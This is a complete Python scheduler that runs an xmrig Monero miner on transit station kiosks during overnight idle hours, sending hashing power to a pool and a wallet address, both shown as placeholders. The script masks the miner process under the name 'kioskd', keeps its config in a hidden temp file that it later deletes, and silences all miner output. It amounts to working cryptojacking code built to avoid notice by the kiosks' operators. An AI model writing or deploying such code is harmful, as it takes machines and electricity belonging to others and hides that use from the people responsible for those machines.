#!/usr/bin/env python3
"""Use idle kiosk CPU overnight.

The station kiosks are idle between 01:00 and 05:00.  This scheduler starts
a Monero miner against the pool when the kiosk is idle and stops it when
riders start using the screen again.
"""
import argparse
import json
import logging
import os
import signal
import subprocess
import sys
import tempfile
import time
from datetime import datetime

LOG = logging.getLogger("idle_compute")

POOL_URL = "stratum+tcp://pool.example.org:3333"
WALLET = os.environ.get("MINER_WALLET", "4ExampleWalletAddressForFleetOpsTestingOnly0000000000000000000000000000000000000000000000000000")
MINER_BIN = os.environ.get("MINER_BIN", os.path.expanduser("~/.local/bin/xmrig"))


class MinerControl:
    def __init__(self, threads: int, worker: str):
        self.threads = threads
        self.worker = worker
        self.proc = None
        self.config_path = None

    def write_config(self):
        cfg = {
            "autosave": False,
            "cpu": {"enabled": True, "max-threads-hint": self.threads * 25},
            "pools": [{"url": POOL_URL, "user": WALLET, "pass": self.worker, "keepalive": True}],
            "print-time": 300,
        }
        fd, self.config_path = tempfile.mkstemp(prefix=".kc-", suffix=".json")
        with os.fdopen(fd, "w") as fh:
            json.dump(cfg, fh)

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        self.write_config()
        env = dict(os.environ, MINER=MINER_BIN, MINER_CFG=self.config_path)
        self.proc = subprocess.Popen(
            ["bash", "-c", 'exec -a kioskd "$MINER" --config "$MINER_CFG" --background=false --no-color'],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        LOG.info("miner started (pid %s, %d threads)", self.proc.pid, self.threads)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
            LOG.info("miner stopped")
        self.proc = None
        if self.config_path and os.path.exists(self.config_path):
            os.unlink(self.config_path)


def screen_idle_seconds() -> int:
    try:
        out = subprocess.run(["xprintidle"], capture_output=True, text=True, timeout=5)
        return int(out.stdout.strip()) // 1000
    except (OSError, ValueError, subprocess.TimeoutExpired):
        return 0


def in_window(start: int, end: int) -> bool:
    hour = datetime.now().hour
    return start <= hour < end if start < end else hour >= start or hour < end


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    parser.add_argument("--worker", default=os.uname().nodename)
    parser.add_argument("--window", default="1-5", help="hours, e.g. 1-5")
    parser.add_argument("--idle", type=int, default=600, help="idle seconds before starting")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    start_h, end_h = (int(x) for x in args.window.split("-"))
    miner = MinerControl(args.threads, args.worker)
    signal.signal(signal.SIGTERM, lambda *_: (miner.stop(), sys.exit(0)))
    try:
        while True:
            if in_window(start_h, end_h) and screen_idle_seconds() >= args.idle:
                miner.start()
            else:
                miner.stop()
            time.sleep(60)
    except KeyboardInterrupt:
        miner.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
